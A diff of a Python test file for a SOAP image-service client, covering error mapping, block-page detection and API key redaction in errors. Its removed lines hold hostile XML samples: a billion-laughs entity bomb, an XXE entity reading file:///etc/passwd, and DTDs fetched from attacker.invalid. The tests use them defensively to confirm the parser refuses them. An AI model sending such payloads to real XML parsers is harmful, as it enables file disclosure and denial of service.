@@ -1,9 +1,11 @@
-"""Error mapping: faults, ASMX error text, blocked paths, unreadable bodies, the API key."""
+"""Error mapping: faults, ASMX error text, blocked paths, unreadable bodies, the API key.
+
+What the client does next (retry, fall back, give up) is the policy's: tests/unit/test_policy.py
+and, on the wire, tests/resilience/. Hostile XML is in tests/security/test_hostile_xml.py.
+"""
 
 from __future__ import annotations
 
-import logging
-import time
 from typing import Any
 
 import httpx
@@ -12,13 +14,10 @@ import respx
 
 import pixelz
 from pixelz import (
-    AllProtocolsFailedError,
     APIError,
-    NetworkError,
     PixelzError,
     Protocol,
     ProtocolBlockedError,
-    RequestTimeoutError,
     ResponseParseError,
 )
 from pixelz._operations import GET_IMAGES_LIST, NAMESPACE
@@ -34,9 +33,7 @@ from ._wire import (
     Rec,
     bare_body,
     capture_response,
-    ok_response,
     protocol_of,
-    serve,
     soap_body,
 )
 
@@ -163,7 +160,8 @@ def test_captured_infrastructure_answers_are_blocked(router, make_client, captur
     "System.Reflection.TargetInvocationException: Exception has been thrown ---> "
     "System.ArgumentException: Invalid contact API key" + DOTNET_STACK,
     "Exception has been thrown by the target of an invocation. ---> Invalid contact API key",
-], ids=["remote", "mono-local", "dotnet-local", "chain-local", "chain-remote"])
+    "Server was unable to process request. ---> Invalid contact API key",
+], ids=["remote", "mono-local", "dotnet-local", "chain-local", "chain-remote", "unable"])
 @pytest.mark.parametrize("protocol", PROTOCOLS)
 def test_same_fault_same_message_every_protocol(router, make_client, protocol, text) -> None:
     error = call_with(router, make_client, protocol, fault_for(protocol, text))
@@ -221,19 +219,6 @@ def test_fault_control_character_reference(router, make_client) -> None:
     assert call_with(router, make_client, "soap11", response).message == "image a\x01b unknown"
 
 
-@pytest.mark.parametrize("protocol", PROTOCOLS)
-def test_service_errors_do_not_fall_back(router, make_client, protocol) -> None:
-    others = [p for p in PROTOCOLS if p is not protocol]
-
-    def handler(request: httpx.Request) -> httpx.Response:
-        return fault_for(protocol_of(request), "Invalid contact API key")
-
-    route = router.route().mock(side_effect=handler)
-    with pytest.raises(APIError):
-        make_client([protocol, *others]).list_images()
-    assert route.call_count == 1
-
-
 def test_fault_echoing_the_key_is_redacted(router, make_client) -> None:
     for protocol in PROTOCOLS:
         error = call_with(router, make_client, protocol,
@@ -264,6 +249,7 @@ BLOCKED = [
     (200, "text/html; charset=utf-8", WAF_PAGE),
     (200, "text/xml; charset=utf-8", WAF_PAGE),
     (200, "text/xml", '<?xml version="1.0"?>\n<!DOCTYPE html><html><body>x</body></html>'),
+    (200, "text/xml", '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>x</body></html>'),
     (200, "", "<html><body>captive portal</body></html>"),
     (200, "text/xml; charset=utf-8", ""),
     (200, "text/xml; charset=utf-8", "   \r\n"),
@@ -285,40 +271,6 @@ def test_blocked_shapes(router, make_client, protocol, status, content_type, bod
     assert error.status_code == status
     assert error.protocol is protocol
     assert "GetImagesList" in str(error) and protocol.value in str(error)
-
-
-def test_blocked_falls_back_and_logs_once(router, make_client, caplog) -> None:
-    def handler(request: httpx.Request) -> httpx.Response:
-        if protocol_of(request) is Protocol.SOAP11:
-            return httpx.Response(403, headers={"Content-Type": "text/html"}, content=WAF_PAGE)
-        return ok_response(protocol_of(request), [Rec(T1)])
-
-    route = router.route().mock(side_effect=handler)
-    client = make_client()
-    with caplog.at_level(logging.WARNING, logger="pixelz"):
-        page = client.list_images()
-    assert page.protocol is Protocol.SOAP12
-    assert client.protocol is Protocol.SOAP12
-    assert route.call_count == 2
-    warnings = [r for r in caplog.records if r.name == "pixelz" and r.levelno == logging.WARNING]
-    assert len(warnings) == 1
-    assert "soap11" in warnings[0].getMessage() and "soap12" in warnings[0].getMessage()
-    # Sticky: the next call goes straight to SOAP 1.2.
-    client.list_images()
-    assert protocol_of(route.calls.last.request) is Protocol.SOAP12
-    assert route.call_count == 3
-
-
-def test_all_protocols_blocked(router, make_client) -> None:
-    router.route().mock(return_value=httpx.Response(403, content=b""))
-    with pytest.raises(AllProtocolsFailedError) as info:
-        make_client().list_images()
-    error = info.value
-    assert [p for p, _ in error.attempts] == PROTOCOLS
-    assert all(type(e) is ProtocolBlockedError for _, e in error.attempts)
-    for protocol in PROTOCOLS:
-        assert protocol.value in str(error)
-    assert_no_key(error)
 
 
 # -- unreadable responses ---------------------------------------------------------------------
@@ -382,60 +334,6 @@ def test_unreadable_xml(router, make_client, protocol, name) -> None:
     assert len(error.snippet) <= 200
 
 
-HOSTILE = {
-    "billion-laughs": (
-        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
-        + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">'
-                  for i in range(1, 10)).replace("&lol0;", "&lol;")
-        + f']><ImagesListResponse xmlns="{NAMESPACE}"><Images>&lol9;</Images>'
-        "</ImagesListResponse>"
-    ),
-    "xxe-file": (
-        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
-        f'<ImagesListResponse xmlns="{NAMESPACE}"><Images><ImageStatus><ImageTicket>{T1}'
-        "</ImageTicket><CustomerImageId>&xxe;</CustomerImageId><StatusId>1</StatusId>"
-        "<IsPaid>true</IsPaid></ImageStatus></Images></ImagesListResponse>"
-    ),
-    "xxe-network": (
-        '<!DOCTYPE r SYSTEM "http://attacker.invalid/evil.dtd">'
-        f'<ImagesListResponse xmlns="{NAMESPACE}" />'
-    ),
-    "parameter-entity": (
-        '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.invalid/p.dtd"> %p;]>'
-        f'<ImagesListResponse xmlns="{NAMESPACE}" />'
-    ),
-    "dtd-in-soap": SOAP_OK.replace(XML_DECL, XML_DECL + "<!DOCTYPE soap:Envelope []>"),
-}
-
-
-@pytest.mark.parametrize("codec", ["utf-8", "utf-8-sig", "utf-16", "utf-16-be"])
-@pytest.mark.parametrize("name", list(HOSTILE))
-@pytest.mark.parametrize("protocol", [Protocol.SOAP12, Protocol.HTTP_POST])
-def test_hostile_xml_refused_fast(router, make_client, protocol, name, codec) -> None:
-    """Refused in any encoding: a UTF-16 DTD is no less a DTD (nor a block page)."""
-    response = httpx.Response(200, headers={"Content-Type": CONTENT_TYPES[protocol]},
-                              content=HOSTILE[name].encode(codec))
-    started = time.perf_counter()
-    error = call_with(router, make_client, protocol, response)
-    assert time.perf_counter() - started < 1.0
-    assert type(error) is ResponseParseError
-    assert "root:" not in str(error) and "root:" not in error.snippet
-
-
-def test_parse_error_falls_back(router, make_client) -> None:
-    def handler(request: httpx.Request) -> httpx.Response:
-        protocol = protocol_of(request)
-        if protocol is Protocol.SOAP11:
-            return httpx.Response(200, headers={"Content-Type": "text/xml"},
-                                  content=SOAP_OK[:100].encode())
-        return ok_response(protocol, [Rec(T1)])
-
-    router.route().mock(side_effect=handler)
-    page = make_client([Protocol.SOAP11, Protocol.HTTP_POST]).list_images()
-    assert page.protocol is Protocol.HTTP_POST
-    assert len(page) == 1
-
-
 # -- the API key in parse errors --------------------------------------------------------------
 
 
@@ -454,22 +352,6 @@ def test_key_never_in_parse_errors(router, make_client, body: str) -> None:
     assert type(error) is ResponseParseError
 
 
-@pytest.mark.parametrize("element", ["StatusId", "IsPaid", "ImageTicket"])
-def test_no_part_of_a_long_key_in_parse_errors(router, element: str) -> None:
-    """A typed field echoing a long key: the error may not quote any recognizable part."""
-    key = "SENTINEL-KEY-9f3a" + "0123456789abcdef0123456789"
-    original = {"StatusId": "80", "IsPaid": "true", "ImageTicket": T1}[element]
-    body = BARE_OK.replace(f"<{element}>{original}</{element}>", f"<{element}>{key}</{element}>")
-    router.route().mock(return_value=httpx.Response(
-        200, headers={"Content-Type": "text/xml"}, content=body.encode()))
-    with pixelz.Client(EMAIL, key, base_url=BASE_URL, protocols="http_get",
-                       max_retries=0) as client, pytest.raises(ResponseParseError) as info:
-        client.list_images()
-    for text in (str(info.value), repr(info.value), info.value.snippet):
-        for start in range(len(key) - 8):
-            assert key[start:start + 8] not in text
-
-
 def test_key_with_xml_specials_redacted_in_snippet(router) -> None:
     key = "K<&>\"'-9f3a"
     escaped = xml_escape(key)
@@ -480,60 +362,3 @@ def test_key_with_xml_specials_redacted_in_snippet(router) -> None:
         client.list_images()
     assert escaped not in info.value.snippet and key not in info.value.snippet
     assert "***" in info.value.snippet
-
-
-# -- network, retries -------------------------------------------------------------------------
-
-
-def test_connect_error_is_network_error_without_fallback(router, make_client) -> None:
-    failure = httpx.ConnectError(f"cannot reach ?contactAPIkey={KEY}")
-    route = router.route().mock(side_effect=failure)
-    with pytest.raises(NetworkError) as info:
-        make_client([Protocol.HTTP_GET, Protocol.SOAP11]).list_images()
-    error = info.value
-    assert type(error) is NetworkError
-    assert route.call_count == 1
-    assert_no_key(error)
-    assert error.__cause__ is None
-
-
-def test_timeout_is_request_timeout_error(router, make_client) -> None:
-    router.route().mock(side_effect=httpx.ReadTimeout("slow"))
-    with pytest.raises(RequestTimeoutError) as info:
-        make_client("soap11").list_images()
-    assert isinstance(info.value, NetworkError)
-    assert_no_key(info.value)
-
-
-def test_connection_reset_falls_back(router, make_client) -> None:
-    def handler(request: httpx.Request) -> httpx.Response:
-        if protocol_of(request) is Protocol.SOAP11:
-            raise httpx.ReadError("connection reset by peer")
-        return ok_response(protocol_of(request), [Rec(T1)])
-
-    router.route().mock(side_effect=handler)
-    assert make_client().list_images().protocol is Protocol.SOAP12
-
-
-def test_retry_after_503_then_success(router, make_client) -> None:
-    route = router.route().mock(side_effect=[
-        httpx.Response(503, headers={"Retry-After": "0"}),
-        ok_response(Protocol.SOAP11, [Rec(T1)]),
-    ])
-    page = make_client("soap11", max_retries=1).list_images()
-    assert len(page) == 1 and route.call_count == 2
-
-
-def test_503_without_retries_is_api_error(router, make_client) -> None:
-    error = call_with(router, make_client, "soap11", httpx.Response(503))
-    assert type(error) is APIError and error.status_code == 503
-
-
-def test_no_key_in_log_records(router, make_client, caplog) -> None:
-    router.route().mock(side_effect=serve([Rec(T1)]))
-    with caplog.at_level(logging.DEBUG):
-        for protocol in PROTOCOLS:
-            make_client(protocol).list_images()
-    assert caplog.records  # httpx logs each request at INFO
-    for record in caplog.records:
-        assert KEY not in record.getMessage()
